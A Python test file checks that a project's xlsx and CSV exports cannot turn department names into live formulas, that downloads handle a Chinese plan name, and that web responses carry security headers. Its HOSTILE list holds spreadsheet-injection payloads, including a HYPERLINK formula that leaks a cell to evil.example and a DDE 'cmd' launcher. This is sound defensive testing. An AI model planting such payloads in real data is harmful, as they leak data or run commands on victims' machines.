"""Exports that cannot attack the reader, downloads with any plan name, and the browser's security
headers (issue 15 §7), over the real importer, exporter and a started ``shangyun serve``.

Attacks reproduced:
- a department named ``=HYPERLINK(…)`` exported as a live formula (xlsx and CSV);
- ``GET /api/v1/savings/xlsx`` answering 500 for a plan with a Chinese name (Content-Disposition);
- responses without CSP, X-Frame-Options, nosniff or Referrer-Policy.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote

import httpx
import openpyxl
import pytest
from sqlalchemy.engine import Engine
from sqlmodel import Session, col, select

from collectors.survey.importer import import_survey
from inventory.audit import Actor
from inventory.db import create_db_engine
from inventory.models import Department
from inventory.views.export import export_inventory
from tests.api_server import seed, serve
from tests.conftest import run_cli
from tests.survey_files import snapshot

ACTOR = Actor("test:security")
# What an attacker types as a department's name; each starts with a character spreadsheets evaluate.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "'=already quoted"]


def _rename_departments(engine: Engine) -> list[str]:
    with Session(engine) as session:
        departments = session.exec(select(Department).order_by(col(Department.id))).all()[:len(HOSTILE)]
        for department, name in zip(departments, HOSTILE, strict=True):
            department.name = name
            session.add(department)
        session.commit()
        return [d.code for d in departments]


def _formulas(path: Path) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets, read from the XML itself."""
    with zipfile.ZipFile(path) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]


def test_exported_text_never_becomes_a_formula_and_reimports_unchanged(engine: Engine, tiny_estate: Path,
                                                                        tmp_path: Path) -> None:
    assert import_survey(tiny_estate, engine=engine, actor=ACTOR).written
    codes = _rename_departments(engine)
    with Session(engine) as session:
        export_inventory(session, tmp_path / "estate.xlsx")
        export_inventory(session, tmp_path / "csv")
    assert _formulas(tmp_path / "estate.xlsx") == []
    sheet = openpyxl.load_workbook(tmp_path / "estate.xlsx")["departments"]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for code, name in zip(codes, HOSTILE, strict=True):
        assert cells[code].value == name and cells[code].data_type == "s"

    with (tmp_path / "csv" / "departments.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = {row[0]: row[1] for row in csv.reader(handle)}
    for code, name in zip(codes, HOSTILE, strict=True):
        assert rows[code] == "'" + name  # a spreadsheet shows it as text

    before = snapshot(engine)
    for exported in (tmp_path / "estate.xlsx", tmp_path / "csv"):
        again = import_survey(exported, engine=engine, actor=ACTOR)
        assert not again.report.changed and not again.report.errors, exported
        assert snapshot(engine) == before


@pytest.fixture
def server(db_url: str, tiny_estate: Path, tmp_path: Path) -> Iterator[tuple[str, str]]:
    """A served estate whose plan has a Chinese name; (base URL, finance token)."""
    seeded = seed(db_url, tiny_estate)
    planned = run_cli("plan", "create", "--name", "2027年迁移", "--start", "2026-12-07", db_url=db_url)
    assert planned.returncode == 0, planned.stderr
    engine = create_db_engine(db_url)
    _rename_departments(engine)
    engine.dispose()
    process, base = serve(db_url, tmp_path / "serve.log")
    try:
        yield base, seeded.tokens["finance"]
    finally:
        process.terminate()
        process.wait(timeout=30)


def test_downloads_carry_any_plan_name_hold_no_formula_and_every_response_has_security_headers(
        server: tuple[str, str], tmp_path: Path) -> None:
    base, token = server
    auth = {"Authorization": f"Bearer {token}"}
    response = httpx.get(base + "/api/v1/savings/xlsx", params={"plan": "2027年迁移@1"}, headers=auth, timeout=60)
    assert response.status_code == 200, response.text
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment; ")
    encoded = disposition.split("filename*=UTF-8''", 1)[1]
    assert unquote(encoded) == "savings-2027年迁移-1.xlsx"  # RFC 6266 / RFC 5987
    (tmp_path / "savings.xlsx").write_bytes(response.content)
    assert _formulas(tmp_path / "savings.xlsx") == []
    assert openpyxl.load_workbook(io.BytesIO(response.content)).sheetnames

    for path in ("/", "/static/app.js", "/api/v1/overview", "/api/v1/no-such-route", "/healthz",
                 "/openapi.json", "/api/v1/savings/xlsx?plan=2027年迁移@1"):
        response = httpx.get(base + path, headers=auth, timeout=60)
        policy = response.headers["content-security-policy"]
        directives = {d.strip().split(" ", 1)[0]: d.strip() for d in policy.split(";")}
        assert directives["default-src"] == "default-src 'self'", path
        assert "'unsafe-inline'" not in directives.get("script-src", ""), path  # no inline script runs
        assert directives["frame-ancestors"] == "frame-ancestors 'none'", path
        assert response.headers["x-frame-options"] == "DENY", path
        assert response.headers["x-content-type-options"] == "nosniff", path
        assert response.headers["referrer-policy"] == "same-origin", path
